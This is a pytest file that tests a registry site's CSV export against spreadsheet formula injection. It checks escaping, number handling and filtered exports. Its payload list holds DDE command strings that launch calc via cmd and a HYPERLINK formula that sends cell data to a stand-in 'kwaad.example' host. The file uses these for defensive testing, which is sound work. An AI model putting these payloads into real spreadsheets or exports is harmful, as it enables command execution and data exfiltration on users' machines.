"""A cell that a spreadsheet would calculate does not leave this site as a formula."""

import csv
from io import StringIO

import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from common import spreadsheets
from common.spreadsheets import as_csv, harmless
from registry.authorities.models import AuthorityVersion
from registry.signatures.models import SignatureVersion

FORMULAS = [
    "=1+1", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", '"=1+1',
    "'=1+1", '=HYPERLINK("https://kwaad.example?"&A1;"klik")', "=cmd|' /C calc'!A0", "|calc", "%0A=1", "\uff1d1+1",
    "\uff0b1", "\uff0d1-1x", "\uff20SUM", "\x00=1+1", "\x1f=1+1", "-2+3+cmd|' /C calc'!A0", "=\u202e1+1", "\ufeff=1+1",
]  # fmt: skip
STARTS = tuple("=+-@\t\r\n|%\uff1d\uff0b\uff0d\uff20")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text.removeprefix("\ufeff")), delimiter=";"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_a_text(formula: str) -> None:
    ((_head,), (cell,)) = cells(as_csv(["kop"], [[formula]]))
    assert cell.startswith("'")
    assert not cell.lstrip(' \u00a0"\ufeff').startswith(STARTS)


@pytest.mark.parametrize(
    "number", ["-5", "+3,14", "-1.234,5", "12%", "%", "0", "2026-11-21", "'s-Gravenhage", "a=b", "6+"]
)
def test_numbers_days_and_names_stay_as_they_are(number: str) -> None:
    assert harmless(number) == number


@given(st.text(max_size=40))
def test_no_text_begins_as_a_formula(text: str) -> None:
    found = harmless(text)
    assert not found.lstrip().startswith(STARTS) or found.lstrip()[1:2].isdigit() or found == "%"


def test_a_name_in_the_register_that_is_a_formula_is_exported_as_text(client: FlaskClient, session: Session) -> None:
    signature = session.scalars(select(SignatureVersion).where(SignatureVersion.represented_by_id.is_not(None))).first()
    assert signature
    name = "=1+cmd|' /C calc'!A0"
    statement = update(AuthorityVersion).where(AuthorityVersion.authority_id == signature.represented_by_id)
    session.execute(statement.values(name=name))
    session.commit()
    found = [row[4] for row in cells(client.get("/deelnemers.csv").text)]
    assert f"'{name}" in found
    assert name not in found


def test_without_the_guard_the_formula_would_be_exported(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheets, "harmless", lambda text: text)
    assert "\r\n=1+1" in as_csv(["kop"], [["=1+1"]])


@pytest.mark.parametrize(("path", "head"), [("/deelnemers.csv", "Organisatie"), ("/en/deelnemers.csv", "Organisation")])
def test_the_list_is_exported_whole_in_the_language_of_the_page(client: FlaskClient, path: str, head: str) -> None:
    for _kept in range(2):  # the second comes from the cache of pages
        answer = client.get(path)
        assert answer.mimetype == "text/csv"
        assert answer.headers["Content-Disposition"].startswith('attachment; filename="deelnemers-')
        assert answer.text.startswith("\ufeff" + head)
    assert len(cells(answer.text)) > 40


def test_the_export_holds_what_the_filters_of_the_page_leave(client: FlaskClient) -> None:
    page = client.get("/deelnemers?provincie=pv25&sorteer=-naam").text
    link = page.split('href="/deelnemers.csv')[1].split('"')[0].replace("&amp;", "&")
    rows = cells(client.get(f"/deelnemers.csv{link}").text)[1:]
    assert 0 < len(rows) < 60
    assert {row[2] for row in rows} == {"Gelderland"}
